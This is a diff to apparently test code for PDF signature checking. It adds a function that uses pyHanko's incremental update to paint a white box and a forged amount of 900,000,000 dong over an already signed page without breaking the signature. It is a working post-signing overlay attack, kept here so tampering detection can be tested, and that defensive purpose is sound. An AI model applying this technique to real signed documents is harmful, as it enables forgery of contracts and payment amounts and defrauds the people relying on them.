@@ -426,6 +426,44 @@ def modify_pdf_after_signing(signed: bytes) -> bytes:
     return out.getvalue()
 
 
+def overlay_after_signing(signed: bytes, text: str = "So tien: 900.000.000 dong") -> bytes:
+    """The attack of a visible change after signing: an incremental update (pyHanko's
+    IncrementalPdfFileWriter) adds an unsigned signature field whose appearance paints a
+    white box and a new amount over the page; the page content and text layer are unchanged.
+    """
+    from pyhanko.pdf_utils import generic
+    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
+    from pyhanko.sign.fields import SigFieldSpec, append_signature_field
+
+    def name(value: str) -> generic.NameObject:
+        return generic.NameObject(value)
+
+    writer = IncrementalPdfFileWriter(BytesIO(signed), strict=False)
+    append_signature_field(writer, SigFieldSpec("Overlay", on_page=0, box=(60, 700, 500, 760)))
+    field = writer.root["/AcroForm"]["/Fields"][-1].get_object()
+    font = generic.DictionaryObject(
+        {name("/Type"): name("/Font"), name("/Subtype"): name("/Type1"),
+         name("/BaseFont"): name("/Helvetica")}
+    )  # fmt: skip
+    paint = b"1 1 1 rg 0 0 440 60 re f 0 0 0 rg BT /F1 18 Tf 12 20 Td (%s) Tj ET" % text.encode()
+    appearance = generic.StreamObject(
+        {
+            name("/Type"): name("/XObject"),
+            name("/Subtype"): name("/Form"),
+            name("/BBox"): generic.ArrayObject([generic.NumberObject(v) for v in (0, 0, 440, 60)]),
+            name("/Resources"): generic.DictionaryObject(
+                {name("/Font"): generic.DictionaryObject({name("/F1"): writer.add_object(font)})}
+            ),
+        },
+        stream_data=paint,
+    )
+    field[name("/AP")] = generic.DictionaryObject({name("/N"): writer.add_object(appearance)})
+    writer.update_container(field)
+    out = BytesIO()
+    writer.write(out)
+    return out.getvalue()
+
+
 def flip_byte(data: bytes, needle: bytes) -> bytes:
     """Change one byte inside ``needle`` (which must occur in data)."""
     index = data.index(needle) + len(needle) // 2
